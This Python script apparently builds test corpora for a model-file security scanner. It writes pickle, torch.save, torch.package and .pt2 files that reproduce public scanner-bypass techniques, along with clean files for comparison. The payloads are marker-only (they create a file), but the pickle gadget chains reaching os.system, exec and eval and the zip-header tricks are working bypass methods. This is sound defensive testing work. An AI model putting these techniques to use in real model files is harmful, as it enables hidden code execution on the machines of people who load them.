"""Writes the scanner corpora of issue 18 (run by `cargo xtask scanner-corpus`).

    python make_scanner_corpus.py DATA_DIR

Replaces DATA_DIR/bypass/ and DATA_DIR/clean/ and writes a manifest.json in
each; prints a JSON summary ({"bypass": {file: bytes}, "clean": {...}}).

bypass/: one file per public scanner-bypass technique and container
(picklescan, modelscan and fickling advisories and issues, PyTorch issues,
write-ups), each with its source URL, the loader call that fires it and the
verdict `tpkg audit` owes it (`unsafe`). Every payload is harmless: it only
creates a marker file, either the path in the environment variable
TPKG_MARKER or `tpkg-marker` in the working directory (the harness runs each
load in a fresh temporary directory with TPKG_MARKER set to
`<that directory>/tpkg-marker`, so both name the same file). No payload
reaches the network or deletes anything. Nothing here is ever loaded: the
payloads are written by pickling objects whose __reduce__ names the gadget,
or opcode by opcode, and never unpickled.

clean/: small real files PyTorch 2.13 writes (state dicts, checkpoints with
optimizer state, whole models, TorchScript, .pt2, torch.package archives,
pickles of tensors and numpy arrays, legacy torch.save); tpkg audit must
report no `unsafe` finding on any of them.
"""

import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import tempfile
import zipfile

import numpy as np
import torch
import torch.package.package_exporter

# ScriptModules in packages are gated as beta in PyTorch's exporter.
torch.package.package_exporter._gate_torchscript_serialization = False

OUT = None  # set in main()
BYPASS = []
CLEAN = []

# --- the payloads -----------------------------------------------------------
# A shell command and a Python expression that create the marker, and the
# marker's name relative to the working directory for literal-path gadgets.
SH = 'touch "$TPKG_MARKER"'
PY = "open(__import__('os').environ['TPKG_MARKER'], 'w').close()"
REL = "tpkg-marker"

# --- sources ----------------------------------------------------------------
PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
PS_ISSUES = "https://github.com/mmaitre314/picklescan/"
MODELSCAN_338 = "https://github.com/protectai/modelscan/issues/338"
PKG_ISSUE = "https://github.com/pytorch/pytorch/issues/194694"
TS_SECURITY = "https://github.com/pytorch/pytorch/pull/152336"
PT2_PR = "https://github.com/pytorch/pytorch/pull/176791"

# --- loaders ----------------------------------------------------------------
PICKLE_LOAD = {"call": "pickle.load"}
TORCH_LOAD = {"call": "torch.load", "weights_only": False}
JIT_LOAD = {"call": "torch.jit.load"}
EXPORT_LOAD = {"call": "torch.export.load"}


def package_load(package, resource):
    return {"call": "PackageImporter.load_pickle", "package": package, "resource": resource}


def loader_text(load):
    call = load["call"]
    if call == "pickle.load":
        return "pickle.load(f)"
    if call == "torch.load":
        return "torch.load(f, weights_only=False)"
    if call == "torch.jit.load":
        return "torch.jit.load(f)"
    if call == "torch.export.load":
        return "torch.export.load(f)"
    return f"PackageImporter(f).load_pickle({load['package']!r}, {load['resource']!r})"


# --- pickles, opcode by opcode ----------------------------------------------


def u(text):
    """SHORT_BINUNICODE or BINUNICODE."""
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def sg(module, name):
    """STACK_GLOBAL of two pushed strings (protocol 4 resolves dotted names)."""
    return u(module) + u(name) + b"\x93"


def body(value):
    """The opcodes that push `value` (pickle.dumps protocol 4 without PROTO,
    FRAME and STOP), to splice into a handmade pickle that uses no memo."""
    data = pickle.dumps(value, protocol=4)
    data = data[2:]
    if data[:1] == b"\x95":
        data = data[9:]
    assert data.endswith(b".")
    return data[:-1]


P2 = b"\x80\x02"
P4 = b"\x80\x04"
TUPLE1, TUPLE2, TUPLE3 = b"\x85", b"\x86", b"\x87"
REDUCE, STOP, MARK, BUILD = b"R", b".", b"(", b"b"


class R:
    """Pickles as `fn(*args)`: the shape of every __reduce__ payload."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)

    def __call__(self, *args):  # save_reduce wants a callable (never called)
        raise RuntimeError("never called")


def reduce_pickle(fn, args, protocol=4):
    return pickle.dumps(R(fn, args), protocol=protocol)


def torch_save_bytes(obj, **kwargs):
    buf = io.BytesIO()
    torch.save(obj, buf, **kwargs)
    return buf.getvalue()


# --- containers -------------------------------------------------------------


def records_of(zip_bytes):
    """(name, bytes) of a PyTorch zip, in order, without the folder."""
    reader = torch._C.PyTorchFileReader(io.BytesIO(zip_bytes))
    names = reader.get_all_records()
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as z:
        order = [i.filename.split("/", 1)[1] for i in z.infolist()]
    return [(n, reader.get_record(n)) for n in order if n in names]


def pytorch_zip(records):
    """A zip written by PyTorch's own writer (PyTorchFileWriter) with
    `records` (name -> bytes, in order); `version` and the serialization id
    come from the writer."""
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "archive")
        writer = torch._C.PyTorchFileWriter(path)
        for name, data in records:
            if name in ("version", ".data/version", ".data/serialization_id"):
                continue
            writer.write_record(name, data, len(data))
        writer.write_end_of_file()
        del writer
        with open(path, "rb") as f:
            return f.read()


def torch_zip_with_pickle(data_pkl):
    """torch.save's zip layout with `data_pkl` as its pickle."""
    template = torch_save_bytes({"weight": torch.zeros(2)})
    records = [(n, data_pkl if n == "data.pkl" else d) for n, d in records_of(template)]
    return pytorch_zip(records)


MAGIC = 0x1950A86A20F9469CFC6C
SYS_INFO = dict(
    protocol_version=1001,
    little_endian=True,
    type_sizes=dict(short=2, int=4, long=4),
)


def legacy_stream(obj_pickle, magic=None, protocol=None, sys_info=None, keys=None):
    """A legacy torch.save stream without storages: magic number, protocol
    version, sys_info, the object, the storage keys (five pickles)."""
    return (
        (magic or pickle.dumps(MAGIC, 2))
        + (protocol or pickle.dumps(1001, 2))
        + (sys_info or pickle.dumps(SYS_INFO, 2))
        + obj_pickle
        + (keys or pickle.dumps([], 2))
    )


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def bypass(name, data, technique, container, source, load, description, category):
    if data is not None:
        write(os.path.join(OUT, "bypass", name), data)
    BYPASS.append(
        dict(
            file=name,
            technique=technique,
            category=category,
            container=container,
            source=source,
            description=description,
            loader=loader_text(load),
            load=load,
            expected="unsafe",
        )
    )


def in_containers(stem, technique, source, description, payload_obj=None, raw=None,
                  containers=("pickle",), category="gadget"):
    """One file per container for a pickle payload: `payload_obj` (pickled
    with its __reduce__) or `raw` (a handmade pickle)."""
    for container in containers:
        if container == "pickle":
            data = raw if raw is not None else pickle.dumps(payload_obj, protocol=4)
            bypass(f"{stem}.pkl", data, technique, "pickle", source, PICKLE_LOAD,
                   description, category)
        elif container == "torch.save-zip":
            if raw is not None:
                data = torch_zip_with_pickle(raw)
            else:
                data = torch_save_bytes({"weight": torch.zeros(2), "extra": payload_obj})
            bypass(f"{stem}.zip.pt", data, technique, container, source, TORCH_LOAD,
                   description, category)
        elif container == "torch.save-legacy":
            if raw is not None:
                data = legacy_stream(raw)
            else:
                data = torch_save_bytes({"weight": torch.zeros(2), "extra": payload_obj},
                                        _use_new_zipfile_serialization=False)
            bypass(f"{stem}.legacy.pt", data, technique, container, source, TORCH_LOAD,
                   description, category)
        elif container == "torch.package":
            path = os.path.join(OUT, "bypass", f"{stem}.package.pt")
            os.makedirs(os.path.dirname(path), exist_ok=True)
            from torch.package import PackageExporter

            with PackageExporter(path) as exporter:
                exporter.extern("**")
                if raw is not None:
                    exporter.save_binary("model", "model.pkl", raw)
                else:
                    exporter.save_pickle("model", "model.pkl", payload_obj)
            bypass(f"{stem}.package.pt", None, technique, container, source,
                   package_load("model", "model.pkl"), description, category)
        elif container == "pt2":
            inner = torch_zip_with_pickle(raw) if raw is not None else torch_save_bytes(
                ((payload_obj,), {}))
            bypass(f"{stem}.pt2", pt2_with(sample_inputs=inner), technique, container,
                   source, EXPORT_LOAD, description, category)
        else:
            raise ValueError(container)


# --- .pt2 -------------------------------------------------------------------


class TinyLinear(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.l = torch.nn.Linear(2, 2)

    def forward(self, x):
        return self.l(x)


_PT2 = None


def pt2_template():
    global _PT2
    if _PT2 is None:
        torch.manual_seed(0)
        ep = torch.export.export(TinyLinear(), (torch.randn(1, 2),))
        buf = io.BytesIO()
        torch.export.save(ep, buf)
        _PT2 = buf.getvalue()
    return _PT2


def pt2_with(sample_inputs=None, weights=None, constants=None):
    """The template .pt2 with records replaced: the sample inputs (a
    torch.save zip), the weights config plus payload records, the constants
    config plus payload records."""
    records = []
    for name, data in records_of(pt2_template()):
        if name == "data/sample_inputs/model.pt" and sample_inputs is not None:
            data = sample_inputs
        if weights is not None and name == "data/weights/model_weights_config.json":
            config = json.loads(data)
            config["config"]["l.weight"]["use_pickle"] = True
            config["config"]["l.weight"]["path_name"] = "weight_pickled"
            data = json.dumps(config).encode()
            records.append(("data/weights/weight_pickled", weights))
        if constants is not None and name == "data/constants/model_constants_config.json":
            config = {"config": {"c": {"path_name": "tensor_constant_0", "is_param": False,
                                       "use_pickle": True, "tensor_meta": None}}}
            data = json.dumps(config).encode()
            records.append(("data/constants/tensor_constant_0", constants))
        records.append((name, data))
    return pytorch_zip(records)


# --- zip surgery ------------------------------------------------------------


def central_entries(data):
    """(offset of central header, offset of local header, name) per entry."""
    end = data.rfind(b"PK\x05\x06")
    count = struct.unpack_from("<H", data, end + 10)[0]
    at = struct.unpack_from("<I", data, end + 16)[0]
    out = []
    for _ in range(count):
        assert data[at:at + 4] == b"PK\x01\x02"
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, at + 28)
        local = struct.unpack_from("<I", data, at + 42)[0]
        name = data[at + 46:at + 46 + name_len].decode()
        out.append((at, local, name))
        at += 46 + name_len + extra_len + comment_len
    return out


def entry_of(data, suffix):
    for central, local, name in central_entries(data):
        if name.endswith(suffix):
            return central, local, name
    raise KeyError(suffix)


def zip_bad_crc(data):
    data = bytearray(data)
    central, local, _ = entry_of(data, "/data.pkl")
    crc = struct.unpack_from("<I", data, central + 16)[0] ^ 0xFFFFFFFF
    struct.pack_into("<I", data, central + 16, crc)
    if struct.unpack_from("<I", data, local + 14)[0] != 0:
        struct.pack_into("<I", data, local + 14, crc)
    return bytes(data)


def zip_flag(data, bit, where):
    data = bytearray(data)
    central, local, _ = entry_of(data, "/data.pkl")
    if "central" in where:
        flags = struct.unpack_from("<H", data, central + 8)[0] | bit
        struct.pack_into("<H", data, central + 8, flags)
    if "local" in where:
        flags = struct.unpack_from("<H", data, local + 6)[0] | bit
        struct.pack_into("<H", data, local + 6, flags)
    return bytes(data)


def zip_local_name(data, new_name):
    """The local header of data.pkl names another file (same length)."""
    data = bytearray(data)
    _, local, name = entry_of(data, "/data.pkl")
    folder = name.split("/", 1)[0]
    new = f"{folder}/{new_name}".encode()
    assert len(new) == len(name)
    data[local + 30:local + 30 + len(new)] = new
    return bytes(data)


def python_zip(entries):
    """A stored zip of (name, bytes) written by Python's zipfile, fixed dates
    (duplicate names allowed)."""
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            for name, data in entries:
                info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
                z.writestr(info, data)
    return buf.getvalue()


def zip_entries_of(zip_bytes, folder="archive"):
    return [(f"{folder}/{n}", d) for n, d in records_of(zip_bytes)]


# --- torch.package ------------------------------------------------------------


def package(name, sources, pickle_bytes, load_resource=("model", "model.pkl"), extern=("os",),
            packages=()):
    """A torch.package archive from sources (module -> text, written with
    save_source_string, never imported here) and a handmade pickle."""
    from torch.package import PackageExporter

    path = os.path.join(OUT, "bypass", name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with PackageExporter(path) as exporter:
        for module in extern:
            exporter.extern(module)
        for module, text in sources.items():
            exporter.save_source_string(module, text, is_package=module in packages)
        if pickle_bytes is not None:
            exporter.save_binary(load_resource[0], load_resource[1], pickle_bytes)
    return path


def instance_of(module, cls):
    """A protocol 2 pickle of `module.cls()` (NEWOBJ with no arguments)."""
    return P2 + b"c" + module.encode() + b"\n" + cls.encode() + b"\n)\x81."


# --- the bypass corpus --------------------------------------------------------


def make_bypass():
    import code
    import cProfile
    import imaplib
    import logging
    import multiprocessing.util
    import operator
    import pydoc
    import timeit
    import uuid

    import pip
    import torch.jit.unsupported_tensor_ops
    import torch.utils.collect_env

    # -- gadgets from picklescan / modelscan / fickling advisories ----------
    in_containers(
        "pip_main", "pip.main", "https://osv.dev/vulnerability/CVE-2025-1716",
        "pip.main() with a --log file: pip is not on picklescan's blocklist (CVE-2025-1716); "
        "here it only runs `pip list` (no network) and writes its log to the marker",
        payload_obj=R(pip.main, (["--disable-pip-version-check", "--log", REL, "list"],)),
    )
    in_containers(
        "uuid_get_command_stdout", "uuid._get_command_stdout", PS + "GHSA-g38g-8gr9-h9xp",
        "uuid._get_command_stdout runs a program (stdlib RCE helper missing from the blocklist)",
        payload_obj=R(uuid._get_command_stdout, ("sh", "-c", SH)),
        containers=("pickle", "torch.save-zip"),
    )
    in_containers(
        "imaplib_imap4_stream", "imaplib.IMAP4_stream", PS + "GHSA-g38g-8gr9-h9xp",
        "imaplib.IMAP4_stream(command) runs the command through the shell",
        payload_obj=R(imaplib.IMAP4_stream, (SH,)),
    )
    in_containers(
        "collect_env_run", "torch.utils.collect_env.run", PS + "GHSA-f745-w6jp-hpxx",
        "torch.utils.collect_env.run(command) runs a shell command (a PyTorch function; "
        "also seen in malicious Hugging Face models, modelscan issue 338)",
        payload_obj=R(torch.utils.collect_env.run, (SH,)),
        containers=("pickle", "torch.save-zip", "torch.save-legacy", "torch.package", "pt2"),
    )
    in_containers(
        "pydoc_locate_methodcaller", "pydoc.locate + operator.methodcaller",
        PS + "GHSA-84r2-jw7c-4r5q",
        "methodcaller('system', cmd)(pydoc.locate('os')): the module comes from a string",
        payload_obj=R(operator.methodcaller("system", SH), (R(pydoc.locate, ("os",)),)),
    )
    in_containers(
        "operator_getitem_builtins", "operator.getitem on torch._utils.__builtins__",
        "https://github.com/trailofbits/fickling/pull/210",
        "operator.getitem(torch._utils.__builtins__, 'exec'): a dunder hop from an allowlisted "
        "torch module to exec, no builtins global named",
        raw=P4 + sg("operator", "getitem") + sg("torch._utils", "__builtins__") + u("exec")
        + TUPLE2 + REDUCE + u(PY) + TUPLE1 + REDUCE + STOP,
        containers=("pickle", "torch.save-zip"),
    )
    in_containers(
        "dict_get_builtins", "builtins.dict.get on torch._utils.__builtins__",
        "https://github.com/protectai/modelscan/issues/330",
        "dict.get(torch._utils.__builtins__, 'eval'): only `builtins.dict.get` and a torch "
        "module's __builtins__ are named",
        raw=P4 + sg("builtins", "dict.get") + sg("torch._utils", "__builtins__") + u("eval")
        + TUPLE2 + REDUCE + u(PY) + TUPLE1 + REDUCE + STOP,
    )
    in_containers(
        "operator_attrgetter", "_operator.attrgetter", PS + "GHSA-46h3-79wf-xr6c",
        "_operator.attrgetter('system')(__import__('os')) (the C module name of operator)",
        raw=b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nattrgetter\n(Vsystem\ntR(g0\ntR(V"
        + SH.encode() + b"\ntR.",
    )
    in_containers(
        "operator_methodcaller", "_operator.methodcaller", PS + "GHSA-955r-x9j8-7rhh",
        "_operator.methodcaller('system', cmd)(__import__('os'))",
        raw=b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nmethodcaller\n(Vsystem\nV"
        + SH.encode() + b"\ntR(g0\ntR.",
    )
    in_containers(
        "getattr_torch_builtins", "builtins.getattr on the torch.builtins re-export",
        "https://github.com/trailofbits/fickling/pull/195",
        "getattr(torch.builtins, 'exec'): torch re-exports the builtins module",
        raw=P4 + sg("builtins", "getattr") + sg("torch", "builtins") + u("exec") + TUPLE2
        + REDUCE + u(PY) + TUPLE1 + REDUCE + STOP,
    )
    in_containers(
        "interactive_interpreter_runcode", "code.InteractiveInterpreter.runcode",
        PS + "GHSA-cj3c-v495-4xqh",
        "InteractiveInterpreter.runcode(InteractiveInterpreter(), source) executes source",
        payload_obj=R(code.InteractiveInterpreter.runcode, (R(code.InteractiveInterpreter, ()), PY)),
        containers=("pickle", "torch.package"),
    )
    in_containers(
        "multiprocessing_spawnv_passfds", "multiprocessing.util.spawnv_passfds", MODELSCAN_338,
        "multiprocessing.util.spawnv_passfds forks and execs a program",
        payload_obj=R(multiprocessing.util.spawnv_passfds,
                      (b"/bin/sh", [b"/bin/sh", b"-c", SH.encode()], ())),
    )
    npy = io.BytesIO()
    np.save(npy, np.array([R(os.system, (SH,))], dtype=object), allow_pickle=True)
    in_containers(
        "numpy_load_allow_pickle", "numpy.load(allow_pickle=True) nested pickle",
        PS_ISSUES + "blob/main/tests/init_data_files.py",
        "numpy.load(io.BytesIO(npy), None, True): an object array whose pickle calls os.system",
        raw=P4 + sg("numpy", "load") + sg("io", "BytesIO") + body(npy.getvalue()) + TUPLE1
        + REDUCE + b"N\x88" + TUPLE3 + REDUCE + STOP,
    )
    in_containers(
        "timeit_timeit", "timeit.timeit", "https://github.com/github/advisory-database/pull/8728",
        "timeit.timeit('pass', setup) executes setup (GHSA-v7x6-rv5q-mhwc)",
        payload_obj=R(timeit.timeit, ("pass", PY)),
        containers=("pickle", "torch.save-zip"),
    )
    in_containers(
        "logging_filehandler", "logging.FileHandler", PS + "GHSA-m7j5-r2p5-c39r",
        "logging.FileHandler(path) creates a file (CVE-2026-56304)",
        payload_obj=R(logging.FileHandler, (REL,)),
    )
    in_containers(
        "distutils_write_file", "distutils.file_util.write_file", PS + "GHSA-m273-6v24-x4m4",
        "distutils.file_util.write_file(path, lines) writes a file",
        raw=P4 + sg("distutils.file_util", "write_file") + u(REL) + body(["tpkg"]) + TUPLE2
        + REDUCE + STOP,
    )
    inner = torch_save_bytes({"weight": torch.zeros(2), "extra": R(os.system, (SH,))})
    in_containers(
        "load_from_bytes_nested", "torch.storage._load_from_bytes nested torch.load",
        PS + "GHSA-655q-fx9r-782v",
        "torch.storage._load_from_bytes(b) is torch.load(BytesIO(b), weights_only=False) of "
        "bytes inside the pickle (the global PyTorch itself writes for pickled storages)",
        payload_obj=R(torch.storage._load_from_bytes, (inner,)),
        containers=("pickle", "torch.save-zip", "torch.package"),
    )
    in_containers(
        "torch_os_system", "torch.os.system re-export",
        "https://github.com/trailofbits/fickling/pull/60",
        "torch re-exports os: STACK_GLOBAL('torch', 'os.system')",
        raw=P4 + sg("torch", "os.system") + u(SH) + TUPLE1 + REDUCE + STOP,
        containers=("pickle", "torch.save-zip", "torch.save-legacy"),
    )
    in_containers(
        "torch_reexported_popen", "subprocess.Popen re-exported by a torch module",
        "https://github.com/trailofbits/fickling/pull/60",
        "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler.Popen "
        "is subprocess.Popen under a torch module name",
        raw=P4 + sg("torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler",
                    "Popen") + MARK + u("/bin/sh") + u("-c") + u(SH) + b"l" + TUPLE1 + REDUCE + STOP,
    )
    in_containers(
        "print_self_exec", "builtins.print.__self__.exec",
        MODELSCAN_338,
        "STACK_GLOBAL('builtins', 'print.__self__.exec'): an attribute path from an allowed "
        "builtin to exec",
        raw=P4 + sg("builtins", "print.__self__.exec") + u(PY) + TUPLE1 + REDUCE + STOP,
        containers=("pickle", "torch.save-zip", "pt2"),
    )
    in_containers(
        "pkgutil_resolve_name", "pkgutil.resolve_name", PS + "GHSA-vvpj-8cmc-gx39",
        "pkgutil.resolve_name('os:system') returns any callable from a string",
        raw=P4 + sg("pkgutil", "resolve_name") + u("os:system") + TUPLE1 + REDUCE + u(SH)
        + TUPLE1 + REDUCE + STOP,
    )
    in_containers(
        "cprofile_run", "cProfile.run", PS + "GHSA-49gj-c84q-6qm9",
        "cProfile.run(source) executes source under the profiler",
        payload_obj=R(cProfile.run, (PY,)),
    )
    in_containers(
        "profile_run", "profile.run", PS + "GHSA-7wx9-6375-f5wh",
        "profile.run(source) executes source",
        raw=P4 + sg("profile", "run") + u(PY) + TUPLE1 + REDUCE + STOP,
    )
    in_containers(
        "exec_wrapper", "torch.jit.unsupported_tensor_ops.execWrapper", PS + "GHSA-vr7h-p6mm-wpmh",
        "execWrapper(code, globals, locals) is exec in a torch module",
        payload_obj=R(torch.jit.unsupported_tensor_ops.execWrapper, (PY, {}, {})),
    )
    in_containers(
        "evaluate_guards_expression",
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
        PS + "GHSA-f4x7-rfwp-v3xw",
        "ShapeEnv.evaluate_guards_expression(self, code, args) is eval",
        raw=P4 + sg("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression")
        + b"N" + u(PY) + b"]" + TUPLE3 + REDUCE + STOP,
    )
    in_containers(
        "asyncio_subprocess_transport", "asyncio.unix_events._UnixSubprocessTransport._start",
        PS + "GHSA-q77w-mwjj-7mqx",
        "_UnixSubprocessTransport._start({}, cmd, True, ...) starts a shell (a submodule of a "
        "blocked module, CVE-2025-10157)",
        raw=P4 + sg("asyncio.unix_events", "_UnixSubprocessTransport._start") + MARK + b"}"
        + u(SH) + b"\x88NNNK\x00" + b"t" + REDUCE + STOP,
    )
    fn = (lambda: open(__import__("os").environ["TPKG_MARKER"], "w").close()).__code__.replace(
        co_filename="<payload>", co_name="payload", co_qualname="payload", co_firstlineno=1)
    code_args = (fn.co_argcount, fn.co_posonlyargcount, fn.co_kwonlyargcount, fn.co_nlocals,
                 fn.co_stacksize, fn.co_flags, fn.co_code, fn.co_consts, fn.co_names,
                 fn.co_varnames, fn.co_filename, fn.co_name, fn.co_qualname, fn.co_firstlineno,
                 fn.co_linetable, fn.co_exceptiontable, fn.co_freevars, fn.co_cellvars)
    in_containers(
        "code_type_function", "types.CodeType + types.FunctionType", PS + "GHSA-9m3x-qqw2-h32h",
        "builds a code object and a function from it, then calls the function "
        "(bytecode for CPython 3.11)",
        raw=P4 + sg("types", "FunctionType") + sg("types", "CodeType") + body(code_args)
        + REDUCE + b"}" + TUPLE2 + REDUCE + b")" + REDUCE + STOP,
    )

    # -- call routes and odd-but-legal opcodes --------------------------------
    in_containers(
        "inst_exec", "INST opcode", "https://github.com/mmaitre314/picklescan/issues/13",
        "INST imports and calls in one opcode: (V<source> i__builtin__ exec",
        raw=b"(V" + PY.encode() + b"\ni__builtin__\nexec\n.",
        containers=("pickle", "torch.save-legacy"), category="opcode",
    )
    in_containers(
        "obj_pty_spawn", "OBJ opcode (pty.spawn)", "https://github.com/trailofbits/fickling/pull/108",
        "OBJ calls the class-or-callable under the mark: pty.spawn([sh, -c, cmd]) "
        "(GHSA-r7v6-mfhq-g3m2, GHSA-vqmv-47xg-9wpr)",
        raw=b"(cpty\nspawn\n(V/bin/sh\nV-c\nV" + SH.encode() + b"\nlo.",
        category="opcode",
    )
    in_containers(
        "newobj_ex_memmap", "NEWOBJ_EX opcode (numpy.memmap)",
        "https://github.com/promptfoo/modelaudit/pull/585",
        "NEWOBJ_EX calls cls.__new__(cls, *args, **kwargs); numpy.memmap's __new__ creates "
        "the file in mode w+",
        raw=P4 + sg("numpy", "memmap") + u(REL) + TUPLE1 + b"}" + u("mode") + u("w+") + b"s"
        + u("shape") + b"K\x01" + TUPLE1 + b"s" + b"\x92" + STOP,
        containers=("pickle", "torch.save-zip"), category="opcode",
    )
    in_containers(
        "int_hex_literal", "I0x10 (INT accepts int(text, 0))", "https://arxiv.org/abs/2508.19774",
        "CPython's INT opcode parses I0x10 (base 0) where pickletools' decimal parser raises, "
        "so an opcode-listing scanner stops before the payload (exception-directed "
        "programming, cf. GHSA-9gvj-pp9x-gcfr)",
        raw=b"I0x10\n0cos\nsystem\n(V" + SH.encode() + b"\ntR.",
        category="opcode",
    )
    def build_then_index(target, state):
        """BUILD puts torch._utils.__builtins__ on `target` as `data`; then
        collections.UserDict.__getitem__(target, 'eval') reads eval out of it."""
        return (P4 + target + b"\x94" + state + u("data") + sg("torch._utils", "__builtins__")
                + b"s" + TUPLE2 + BUILD + b"0" + sg("collections", "UserDict.__getitem__")
                + b"h\x00" + u("eval") + TUPLE2 + REDUCE + u(PY) + TUPLE1 + REDUCE + STOP)

    in_containers(
        "build_function_builtins", "BUILD on a function + a module's __builtins__",
        "https://github.com/protectai/modelscan/issues/330",
        "BUILD's slot state sets numpy.size.data = torch._utils.__builtins__; "
        "UserDict.__getitem__(numpy.size, 'eval') then returns eval (the numpy.size/.shape "
        "original no longer works with numpy 2.4's size)",
        raw=build_then_index(sg("numpy", "size"), b"}}"),
        containers=("pickle", "torch.save-zip"), category="opcode",
    )
    in_containers(
        "build_on_class", "BUILD on a class (collections.UserDict)",
        "https://github.com/protectai/modelscan/issues/85",
        "BUILD on the class collections.UserDict setattrs data = torch._utils.__builtins__ "
        "(a class without __setstate__ takes slot state as setattr); "
        "UserDict.__getitem__(UserDict, 'eval') returns eval",
        raw=build_then_index(sg("collections", "UserDict"), b"N}"),
        category="opcode",
    )
    prod_build = (b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0"
                  b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93V" + SH.encode()
                  + b"\n\x85R.")
    in_containers(
        "build_on_callable_dotted_global", "BUILD on numpy.prod + dotted GLOBAL",
        "https://github.com/protectai/modelscan/issues/85",
        "BUILD's slot state setattrs 'os'/'system' onto numpy.prod; GLOBAL numpy prod.a "
        "reads them back for STACK_GLOBAL",
        raw=prod_build, category="opcode",
    )
    in_containers(
        "string_stack_global", "STACK_GLOBAL of STRING operands", PS + "GHSA-9gvj-pp9x-gcfr",
        "STACK_GLOBAL whose operands are STRING (S'os') opcodes, a protocol-0 form",
        raw=b"S'os'\nS'system'\n\x93S'" + SH.encode() + b"'\n\x85R.",
        containers=("pickle", "torch.save-zip"), category="opcode",
    )
    in_containers(
        "memo_stack_global", "STACK_GLOBAL operands from the memo",
        "https://github.com/mmaitre314/picklescan/issues/22",
        "the operands of STACK_GLOBAL come from GET of memo slots filled out of order "
        "(a decoy torch.LongStorage in between)",
        raw=b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V"
        + SH.encode() + b"\ntR.",
        category="opcode",
    )
    in_containers(
        "payload_then_bad_memo", "payload, then a missing memo key",
        "https://github.com/protectai/modelscan/pull/348",
        "os.system runs first; a BINGET of a memo slot never set then fails the load (and "
        "crashes scanners that stop at the error)",
        raw=P4 + b"cos\nsystem\nV" + SH.encode() + b"\n" + TUPLE1 + REDUCE + b"0"
        + b"\x8c\x02os\x94h\x03h\x00\x93K\x42.",
        category="opcode",
    )

    make_zip_tricks()
    make_legacy_tricks()
    make_package_tricks()
    make_torchscript_tricks()
    make_pt2_tricks()


def make_zip_tricks():
    payload = {"weight": torch.zeros(2), "extra": R(os.system, (SH,))}
    base = torch_save_bytes(payload)
    zip_bypass = lambda name, data, technique, source, description: bypass(  # noqa: E731
        name, data, technique, "torch.save-zip", source, TORCH_LOAD, description, "zip")
    zip_bypass("zip_bad_crc.pt", zip_bad_crc(base), "CRC-32 mismatch",
               PS + "GHSA-mjqp-26hc-grxg",
               "data.pkl's CRC-32 is wrong: Python's zipfile refuses the record, PyTorch never "
               "checks CRCs (CVE-2025-10156)")
    flags_note = ("PyTorch 2.13's miniz refuses these bits in the central directory (the form "
                  "of the CVE-2025-1945 samples) but never reads local header flags, so this "
                  "loads; a scanner that honours the local header skips or fails the record")
    zip_bypass("zip_flag_0x20_local.pt", zip_flag(base, 0x20, "local"),
               "general purpose flag 0x20 (compressed patched data) in the local header",
               PS + "GHSA-w8jq-xcqf-f792", "flag bit 5 set in data.pkl's local header only: "
               + flags_note)
    zip_bypass("zip_flag_0x1_local.pt", zip_flag(base, 0x1, "local"),
               "general purpose flag 0x1 (encrypted) in the local header",
               PS + "GHSA-w8jq-xcqf-f792", "the encrypted bit set in data.pkl's local header "
               "only: " + flags_note)
    zip_bypass("zip_local_name_differs.pt", zip_local_name(base, "datap.kl"),
               "local header name differs from the central directory",
               PS + "GHSA-7q5r-7gvp-wc82",
               "the local header says datap.kl, the central directory data.pkl: zipfile "
               "raises BadZipFile, miniz reads by the central name (CVE-2025-1944)")
    benign = pickle.dumps({"weight": None}, protocol=2)
    entries = zip_entries_of(base)
    evil = dict(entries)["archive/data.pkl"]
    rest = [(n, d) for n, d in entries if n != "archive/data.pkl"]
    # Of two equal names PyTorch (miniz's sorted index) reads the second here:
    # the benign copy goes first, where a reader that stops at the first
    # match (or streams local headers) finds it.
    zip_bypass("zip_duplicate_name.pt",
               python_zip([("archive/data.pkl", benign), ("archive/data.pkl", evil)] + rest),
               "two records named data.pkl", PS + "GHSA-7q5r-7gvp-wc82",
               "two central directory entries named archive/data.pkl, a benign pickle first: "
               "PyTorch reads the second, the payload (zip parser differential, the class of "
               "CVE-2025-1944)")
    zip_bypass("zip_name_case.pt",
               python_zip([("archive/DATA.PKL", evil)] + rest),
               "record name in another case (DATA.PKL)", PS + "GHSA-7q5r-7gvp-wc82",
               "miniz looks names up ASCII case-insensitively: torch.load reads "
               "archive/DATA.PKL as data.pkl (zip parser differential, the class of "
               "CVE-2025-1944)")
    zip_bypass("zip_pytorch_model.bin", base, "torch.save zip under a .bin name",
               PS + "GHSA-jgw4-cr84-mqxg",
               "a PyTorch zip named .bin, scanned by extension as something else "
               "(CVE-2025-10155)")


def make_legacy_tricks():
    def eval_returning(value_text):
        return pickle.dumps(R(eval, (f"({PY}, {value_text})[1]",)), protocol=2)

    legacy = lambda name, data, technique, source, description: bypass(  # noqa: E731
        name, data, technique, "torch.save-legacy", source, TORCH_LOAD, description, "legacy")
    obj = pickle.dumps({"weight": None}, protocol=2)
    legacy("legacy_magic_pickle.pt", legacy_stream(obj, magic=eval_returning(hex(MAGIC))),
